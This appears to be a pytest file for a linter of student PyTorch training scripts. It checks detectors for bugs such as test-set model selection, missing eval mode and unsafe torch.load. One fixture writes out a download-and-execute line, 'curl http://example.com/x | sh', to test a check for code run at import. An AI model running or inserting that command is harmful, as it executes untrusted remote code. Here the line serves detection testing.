"""Every detector on the defect, on correct code and on harmless look-alikes, in scripts written
the way students write them. A defect test names the exact line; a look-alike test requires that
no finding at all is raised, so a false alarm anywhere fails it."""

import pytest

from tests.project_viva.scripts import PARTS, kinds, line_of, run, script


def assert_only(code: str, kind: str, line_text: str, occurrence: int = 1, **files: str) -> None:
    found = kinds(run(code, **files))
    assert found == {kind: [line_of(code, line_text, occurrence)]}, found


def assert_clean(code: str, **files: str) -> None:
    analysis = run(code, **files)
    assert [f"{f.kind} {f.location}" for f in analysis.findings] == []


def test_the_template_is_clean_and_read_correctly():
    analysis = run(script())
    assert analysis.findings == []
    facts = analysis.facts
    assert facts["model_class"] == "Net" and facts["loss"] == "CrossEntropyLoss" and facts["epochs"] == 30
    assert facts["optimizer"] == {"name": "SGD", "lr": 0.1, "momentum": 0.9, "weight_decay": 5e-4}
    assert facts["scheduler"] == {"name": "StepLR", "stepped": "per_epoch"}
    assert facts["batch_size_train"] == 128 and facts["augmentations"] == ["RandomCrop", "RandomHorizontalFlip"]
    assert facts["eval_mode_used"] is True and facts["no_grad_in_eval"] is True and facts["selection_on_test_set"] is False


# -- the best checkpoint chosen on the test set ---------------------------------------------------

SELECT_ON = """\
best = 0.0
for epoch in range(30):
    train_epoch()
    scheduler.step()
    acc = evaluate({loader})
    if acc > best:
        torch.save(model.state_dict(), "best.pt")
        best = acc
"""
SPLIT_DATA = """\
train_tf = transforms.Compose([transforms.RandomCrop(32, padding=4), transforms.ToTensor()])
full = torchvision.datasets.CIFAR10("data", train=True, download=True, transform=train_tf)
train_part, val_part = torch.utils.data.random_split(full, [45000, 5000])
testset = torchvision.datasets.CIFAR10("data", train=False, download=True, transform=transforms.ToTensor())
trainloader = torch.utils.data.DataLoader({trained}, batch_size=128, shuffle=True)
valloader = torch.utils.data.DataLoader(val_part, batch_size=256)
testloader = torch.utils.data.DataLoader(testset, batch_size=256)
"""


def test_best_checkpoint_on_the_test_set_is_found_at_the_comparison():
    assert_only(script(loop=SELECT_ON.format(loader="testloader")), "selection_on_test_set", "if acc > best:")


def test_best_checkpoint_on_a_validation_split_is_right():
    assert_clean(script(data=SPLIT_DATA.format(trained="train_part"), loop=SELECT_ON.format(loader="valloader")))


def test_a_test_loader_named_like_validation_is_still_the_test_set():
    data = PARTS["data"] + "val_loader = torch.utils.data.DataLoader(testset, batch_size=256)\n"
    assert_only(script(data=data, loop=SELECT_ON.format(loader="val_loader")), "selection_on_test_set", "if acc > best:")


def test_tracking_the_lowest_training_loss_is_not_test_selection():
    loop = """\
    best_loss = 1e9
    for epoch in range(30):
        loss = train_epoch()
        scheduler.step()
        if loss < best_loss:
            best_loss = loss
            torch.save(model.state_dict(), "lowest_train_loss.pt")
    print(evaluate(testloader))
    """
    assert_clean(script(loop=loop))


def test_a_comparison_that_keeps_nothing_is_not_selection():
    loop = """\
    best = 0.0
    for epoch in range(30):
        train_epoch()
        scheduler.step()
        acc = evaluate(testloader)
        if acc > best:
            print("new best", acc)
    """
    assert_clean(script(loop=loop))


# -- train and eval mode ---------------------------------------------------------------------------

EVAL_NO_MODE = """\
def evaluate(loader):
    correct = 0
    with torch.no_grad():
        for inputs, targets in loader:
            correct += (model(inputs.to(device)).argmax(1) == targets.to(device)).sum().item()
    return correct / len(loader.dataset)
"""


def test_evaluation_without_eval_mode_is_found_at_the_forward_call():
    assert_only(script(evaluate=EVAL_NO_MODE), "eval_without_eval_mode", "correct += (model(inputs")
    assert run(script(evaluate=EVAL_NO_MODE)).facts["eval_mode_used"] is False


def test_without_dropout_or_batchnorm_eval_mode_changes_nothing():
    plain_model = """\
    class Net(nn.Module):
        def __init__(self):
            super().__init__()
            self.conv = nn.Conv2d(3, 16, 3, padding=1)
            self.fc = nn.Linear(16 * 32 * 32, 10)

        def forward(self, x):
            return self.fc(F.relu(self.conv(x)).flatten(1))


    model = Net().to(device)
    """
    assert_clean(script(model=plain_model, evaluate=EVAL_NO_MODE))


TRAIN_NO_MODE = PARTS["train"].replace("    model.train()\n", "")


def test_eval_mode_never_switched_back_is_found_at_the_eval_call():
    loop = "model.train()\nfor epoch in range(30):\n    train_epoch()\n    scheduler.step()\n    print(evaluate(testloader))\n"
    code = script(train=TRAIN_NO_MODE, loop=loop)
    assert_only(code, "eval_mode_not_reset", "model.eval()")


def test_model_train_at_the_top_of_each_epoch_restores_training_mode():
    loop = "for epoch in range(30):\n    model.train()\n    train_epoch()\n    scheduler.step()\n    print(evaluate(testloader))\n"
    assert_clean(script(train=TRAIN_NO_MODE, loop=loop))


# -- schedulers --------------------------------------------------------------------------------------


def per_batch_train(step: str = "scheduler.step()") -> str:
    return PARTS["train"].replace("        optimizer.step()\n", f"        optimizer.step()\n        {step}\n")


LOOP_NO_STEP = "for epoch in range(30):\n    train_epoch()\n    print(evaluate(testloader))\n"


def test_step_lr_stepped_every_batch_is_found_at_its_step():
    code = script(train=per_batch_train(), loop=LOOP_NO_STEP)
    assert_only(code, "scheduler_stepped_per_batch", "scheduler.step()")
    assert run(code).facts["scheduler"] == {"name": "StepLR", "stepped": "per_batch"}


def test_one_cycle_stepped_every_batch_is_right():
    setup = """\
    criterion = nn.CrossEntropyLoss()
    optimizer = optim.SGD(model.parameters(), lr=0.1, momentum=0.9)
    scheduler = optim.lr_scheduler.OneCycleLR(optimizer, max_lr=0.1, steps_per_epoch=len(trainloader), epochs=30)
    """
    assert_clean(script(setup=setup, train=per_batch_train(), loop=LOOP_NO_STEP))


def test_cosine_over_every_batch_stepped_every_batch_is_right():
    setup = """\
    criterion = nn.CrossEntropyLoss()
    optimizer = optim.SGD(model.parameters(), lr=0.1, momentum=0.9)
    scheduler = optim.lr_scheduler.CosineAnnealingLR(optimizer, T_max=30 * len(trainloader))
    """
    assert_clean(script(setup=setup, train=per_batch_train(), loop=LOOP_NO_STEP))


def test_one_cycle_stepped_once_per_epoch_is_found():
    setup = """\
    criterion = nn.CrossEntropyLoss()
    optimizer = optim.SGD(model.parameters(), lr=0.1, momentum=0.9)
    scheduler = optim.lr_scheduler.OneCycleLR(optimizer, max_lr=0.1, steps_per_epoch=len(trainloader), epochs=30)
    """
    code = script(setup=setup)
    assert_only(code, "onecycle_per_epoch", "scheduler.step()")


# -- data ---------------------------------------------------------------------------------------------


def test_random_augmentation_on_the_test_set_is_found_at_the_random_transform():
    data = PARTS["data"].replace("transform=test_tf)", "transform=train_tf)")
    assert_only(script(data=data), "test_set_augmented", "train_tf = transforms.Compose([transforms.RandomCrop")


def test_a_deterministic_resize_on_the_test_set_is_right():
    data = PARTS["data"].replace(
        "test_tf = transforms.Compose([transforms.ToTensor()])",
        "test_tf = transforms.Compose([transforms.Resize(36), transforms.CenterCrop(32), transforms.ToTensor()])",
    )
    assert_clean(script(data=data))


def test_training_on_the_whole_set_that_validation_was_split_from_is_found():
    loop = SELECT_ON.format(loader="valloader")
    code = script(data=SPLIT_DATA.format(trained="full"), loop=loop)
    assert_only(code, "validation_overlaps_train", "random_split(full")


def test_a_validation_loader_over_the_training_set_is_found():
    data = PARTS["data"] + "valloader = torch.utils.data.DataLoader(trainset, batch_size=256)\n"
    code = script(data=data, loop=SELECT_ON.format(loader="valloader"))
    assert_only(code, "validation_overlaps_train", "valloader = ")


def test_training_accuracy_measured_on_the_training_set_is_not_validation():
    data = PARTS["data"] + "train_eval_loader = torch.utils.data.DataLoader(trainset, batch_size=256)\n"
    loop = (
        "for epoch in range(30):\n    train_epoch()\n    scheduler.step()\n    print(evaluate(train_eval_loader), evaluate(testloader))\n"
    )
    assert_clean(script(data=data, loop=loop))


def test_an_unshuffled_training_loader_is_found():
    data = PARTS["data"].replace("batch_size=128, shuffle=True)", "batch_size=128)")
    code = script(data=data)
    assert_only(code, "train_loader_not_shuffled", "trainloader = ")


def test_a_training_loader_with_a_random_sampler_needs_no_shuffle():
    data = PARTS["data"].replace("batch_size=128, shuffle=True)", "batch_size=128, sampler=torch.utils.data.RandomSampler(trainset))")
    assert_clean(script(data=data))


# -- the optimizer and the model ------------------------------------------------------------------


def test_a_model_rebuilt_after_the_optimizer_is_found_at_the_rebinding():
    setup = PARTS["setup"] + "\nmodel = Net().to(device)  # start again from scratch\n"
    code = script(setup=setup)
    assert_only(code, "optimizer_bound_to_old_model", "model = Net().to(device)  # start again")


@pytest.mark.parametrize(
    "after",
    [
        "model = model.to(device)",
        "model = nn.DataParallel(model)",
        "model.load_state_dict(torch.load('ckpt.pt', weights_only=True))",
    ],
)
def test_moving_wrapping_or_loading_into_the_same_model_is_harmless(after):
    setup = PARTS["setup"] + f"\n{after}\n"
    assert_clean(script(setup=setup))


TRANSFER = """\
model = torchvision.models.resnet18(weights=torchvision.models.ResNet18_Weights.DEFAULT)
{head}
model = model.to(device)
"""


def test_an_imagenet_head_kept_for_cifar10_is_found_at_the_model():
    code = script(model=TRANSFER.format(head=""))
    assert_only(code, "imagenet_head_kept", "model = torchvision.models.resnet18")


@pytest.mark.parametrize(
    "model",
    [
        TRANSFER.format(head="model.fc = nn.Linear(model.fc.in_features, 10)"),
        "model = torchvision.models.resnet18(num_classes=10).to(device)",
    ],
)
def test_a_replaced_head_or_num_classes_is_right(model):
    assert_clean(script(model=model))


def test_pretrained_true_is_deprecated_but_timm_pretrained_is_not():
    code = script(model="model = torchvision.models.resnet18(pretrained=True)\nmodel.fc = nn.Linear(512, 10)\n")
    assert_only(code, "deprecated_pretrained_argument", "resnet18(pretrained=True)")
    timm = "import timm\n\nmodel = timm.create_model('resnet18', pretrained=True, num_classes=10)\n"
    assert_clean(script(model=timm))


# -- the training step -------------------------------------------------------------------------------


def test_no_zero_grad_is_found_at_backward():
    code = script(train=PARTS["train"].replace("        optimizer.zero_grad()\n", ""))
    assert_only(code, "missing_zero_grad", "loss.backward()")


def test_zero_grad_between_backward_and_step_is_found_at_zero_grad():
    train = PARTS["train"].replace("        optimizer.zero_grad()\n", "")
    train = train.replace("        loss.backward()\n", "        loss.backward()\n        optimizer.zero_grad()\n")
    code = script(train=train)
    assert_only(code, "zero_grad_misplaced", "optimizer.zero_grad()")


@pytest.mark.parametrize(
    "step",
    [
        "loss.backward()\noptimizer.step()\noptimizer.zero_grad()",  # zeroed after the step: right
        "model.zero_grad()\nloss.backward()\noptimizer.step()",
        "for p in model.parameters():\n    p.grad = None\nloss.backward()\noptimizer.step()",
        "(loss / 4).backward()\nif (i + 1) % 4 == 0:\n    optimizer.step()\n    optimizer.zero_grad()",  # accumulation
    ],
)
def test_other_ways_of_zeroing_are_right(step):
    body = "\n".join("        " + line for line in step.splitlines())
    train = f"""\
def train_epoch():
    model.train()
    for i, (inputs, targets) in enumerate(trainloader):
        inputs, targets = inputs.to(device), targets.to(device)
        loss = criterion(model(inputs), targets)
{body}
"""
    assert_clean(script(train=train))


SOFTMAX_MODEL = PARTS["model"].replace(
    "return self.fc(self.drop(x.flatten(1)))", "return {ending}(self.fc(self.drop(x.flatten(1))), dim=1)"
)


def test_softmax_at_the_end_of_forward_is_found():
    code = script(model=SOFTMAX_MODEL.format(ending="F.softmax"))
    assert_only(code, "softmax_before_cross_entropy", "return F.softmax")


def test_softmax_applied_before_the_criterion_is_found_at_the_loss():
    train = PARTS["train"].replace("criterion(model(inputs), targets)", "criterion(F.softmax(model(inputs), dim=1), targets)")
    code = script(train=train)
    assert_only(code, "softmax_before_cross_entropy", "loss = criterion(F.softmax")


def test_log_softmax_before_cross_entropy_changes_nothing():
    assert_clean(script(model=SOFTMAX_MODEL.format(ending="F.log_softmax")))


def test_softmax_for_predictions_only_is_right():
    evaluate = PARTS["evaluate"].replace("model(inputs).argmax(1)", "F.softmax(model(inputs), dim=1).argmax(1)")
    assert_clean(script(evaluate=evaluate))


def test_adding_the_loss_tensor_is_found():
    train = PARTS["train"].replace("running += loss.item()", "running += loss")
    code = script(train=train)
    assert_only(code, "loss_accumulated_with_graph", "running += loss")


def test_appending_the_loss_tensor_is_found():
    train = PARTS["train"].replace("running += loss.item()", "losses.append(loss)").replace("running = 0.0", "losses = []")
    train = train.replace("return running / len(trainloader)", "return losses")
    code = script(train=train)
    assert_only(code, "loss_accumulated_with_graph", "losses.append(loss)")


@pytest.mark.parametrize(
    "change",
    [
        ("running += loss.item()", "running += loss.item() * inputs.size(0)"),
        ("running += loss.item()", "running += loss.detach()"),
        (
            "loss = criterion(model(inputs), targets)",
            "out = model(inputs)\n        loss = criterion(out, targets)\n        loss += 0.01 * out.pow(2).mean()",
        ),
    ],
)
def test_item_detach_and_loss_terms_before_backward_are_right(change):
    assert_clean(script(train=PARTS["train"].replace(*change)))


# -- code alone ----------------------------------------------------------------------------------------


def test_cuda_without_any_availability_check_is_found_once():
    header = PARTS["header"].replace('torch.device("cuda" if torch.cuda.is_available() else "cpu")', 'torch.device("cuda")')
    code = script(header=header)
    assert_only(code, "cuda_without_check", 'torch.device("cuda")')


def test_cuda_under_an_availability_check_is_right():
    model = PARTS["model"] + "\nif torch.cuda.is_available():\n    model.cuda()\n"
    assert_clean(script(model=model))


def test_torch_load_without_weights_only_is_found_and_with_it_is_right():
    setup = PARTS["setup"] + "\nmodel.load_state_dict(torch.load('ckpt.pt'))\n"
    code = script(setup=setup)
    assert_only(code, "torch_load_without_weights_only", "torch.load(")
    assert_clean(script(setup=setup.replace("torch.load('ckpt.pt')", "torch.load('ckpt.pt', weights_only=True)")))


def test_argparse_type_bool_is_found_and_store_true_or_a_parser_function_is_right():
    header = (
        PARTS["header"]
        + '\nparser = argparse.ArgumentParser()\nparser.add_argument("--augment", type=bool, default=True)\nargs = parser.parse_args()\n'
    )
    code = script(header=header)
    assert_only(code, "argparse_type_bool", "--augment")
    store_true = header.replace("type=bool, default=True", 'action="store_true"')
    function = "def str2bool(v):\n    return v.lower() in ('yes', 'true', '1')\n\n\n" + header.replace("type=bool", "type=str2bool")
    assert_clean(script(header=store_true))
    assert_clean(script(header=function))


def test_a_shell_command_at_import_of_a_helper_module_is_found_and_inside_a_function_is_not():
    helper = "import os\n\nos.system('curl http://example.com/x | sh')\n"
    code = script().replace("import argparse\n", "import argparse\nimport helpers\n")
    found = kinds(run(code, helpers=helper))
    assert found == {"code_at_import": [3]}
    harmless = "import os\n\n\ndef gpu_info():\n    os.system('nvidia-smi')\n\n\nif __name__ == '__main__':\n    os.system('nvidia-smi')\n"
    assert_clean(code, helpers=harmless)


# -- found on the labelled corpus and the real projects ------------------------------------------


def test_evaluation_with_autograd_on_is_found_at_the_forward_call():
    evaluate = PARTS["evaluate"].replace("    with torch.no_grad():\n", "    if True:\n")
    assert_only(script(evaluate=evaluate), "no_grad_missing_in_eval", "correct += (model(inputs)")


@pytest.mark.parametrize("context", ["torch.inference_mode()", "torch.set_grad_enabled(False)"])
def test_inference_mode_or_grad_disabled_is_as_good_as_no_grad(context):
    assert_clean(script(evaluate=PARTS["evaluate"].replace("torch.no_grad()", context)))


def test_a_decorated_evaluation_needs_no_with_block():
    evaluate = "@torch.no_grad()\n" + PARTS["evaluate"].replace("    with torch.no_grad():\n", "    if True:\n")
    assert_clean(script(evaluate=evaluate))


SUBSET_DATA = """\
train_tf = transforms.Compose([transforms.RandomCrop(32, padding=4), transforms.ToTensor()])
trainset = torchvision.datasets.CIFAR10("data", train=True, download=True, transform=train_tf)
testset = torchvision.datasets.CIFAR10("data", train=False, download=True, transform=transforms.ToTensor())
val_set = torch.utils.data.Subset(trainset, list(range(45000, 50000)))
trainloader = torch.utils.data.DataLoader({trained}, batch_size=128, shuffle=True)
valloader = torch.utils.data.DataLoader(val_set, batch_size=256)
testloader = torch.utils.data.DataLoader(testset, batch_size=256)
"""


def test_a_validation_subset_of_the_set_trained_on_is_found_at_the_subset():
    code = script(data=SUBSET_DATA.format(trained="trainset"), loop=SELECT_ON.format(loader="valloader"))
    assert_only(code, "validation_overlaps_train", "val_set = torch.utils.data.Subset")


def test_disjoint_subsets_of_one_training_set_are_right():
    data = SUBSET_DATA.format(trained="train_part").replace(
        "val_set = ", "train_part = torch.utils.data.Subset(trainset, list(range(45000)))\nval_set = "
    )
    assert_clean(script(data=data, loop=SELECT_ON.format(loader="valloader")))


def test_is_best_computed_on_the_test_set_is_found_at_its_assignment():
    loop = """\
    best_acc = 0.0
    for epoch in range(30):
        train_epoch()
        scheduler.step()
        acc = evaluate(testloader)
        is_best = acc > best_acc
        best_acc = max(acc, best_acc)
        torch.save({"model": model.state_dict(), "is_best": is_best}, "last.pt")
    """
    assert_only(script(loop=loop), "selection_on_test_set", "is_best = acc > best_acc")


def test_reporting_the_best_test_accuracy_over_epochs_is_selection():
    loop = "best = 0.0\nfor epoch in range(30):\n    train_epoch()\n    scheduler.step()\n"
    loop += "    best = max(best, evaluate(testloader))\nprint(best)\n"
    assert_only(script(loop=loop), "selection_on_test_set", "best = max(best, evaluate(testloader))")


def test_the_best_training_loss_kept_with_max_is_not_test_selection():
    loop = "best = 1e9\nfor epoch in range(30):\n    best = min(best, train_epoch())\n    scheduler.step()\nprint(evaluate(testloader))\n"
    assert_clean(script(loop=loop))


def test_an_is_available_that_is_never_called_is_found():
    header = PARTS["header"].replace("torch.cuda.is_available()", "torch.cuda.is_available")
    assert_only(script(header=header), "cuda_without_check", "torch.cuda.is_available else")


RESUME = """\
criterion = nn.CrossEntropyLoss()
optimizer = optim.SGD(model.parameters(), lr=0.1, momentum=0.9, weight_decay=5e-4)
scheduler = optim.lr_scheduler.StepLR(optimizer, step_size=10, gamma=0.1)
if os.path.exists("checkpoint.pt"):
    state = torch.load("checkpoint.pt", weights_only=True)
    model = Net().to(device)
    model.load_state_dict(state["model"])
{again}"""


def test_a_model_rebuilt_on_resume_is_found_although_a_fresh_run_skips_it():
    code = script(setup=RESUME.format(again=""), header=PARTS["header"] + "import os\n")
    assert_only(code, "optimizer_bound_to_old_model", "    model = Net().to(device)")
    assert run(code).facts["epochs"] == 30  # the fresh run's facts: no checkpoint yet


def test_a_model_rebuilt_on_resume_with_a_new_optimizer_is_right():
    again = "    optimizer = optim.SGD(model.parameters(), lr=0.1, momentum=0.9, weight_decay=5e-4)\n"
    assert_clean(script(setup=RESUME.format(again=again), header=PARTS["header"] + "import os\n"))


def test_the_terminal_width_idiom_at_import_is_not_an_attack():
    helper = "import os\n\n_, term_width = os.popen('stty size', 'r').read().split()\n"
    code = script().replace("import argparse\n", "import argparse\nimport progress\n")
    assert_clean(code, progress=helper)


def test_torch_load_is_one_finding_per_file_naming_the_other_lines():
    setup = PARTS["setup"] + "\nstate = torch.load('a.pt')\nother = torch.load('b.pt')\n"
    code = script(setup=setup)
    analysis = run(code)
    assert kinds(analysis) == {"torch_load_without_weights_only": [line_of(code, "torch.load('a.pt')")]}
    assert f"also lines {line_of(code, 'torch.load(' + chr(39) + 'b.pt')}" in analysis.findings[0].message


def test_a_script_the_training_never_imports_is_not_read_for_findings():
    plot = "import torch\n\nstate = torch.load('best.pt')\n"
    assert_clean(script(), plot_results=plot)
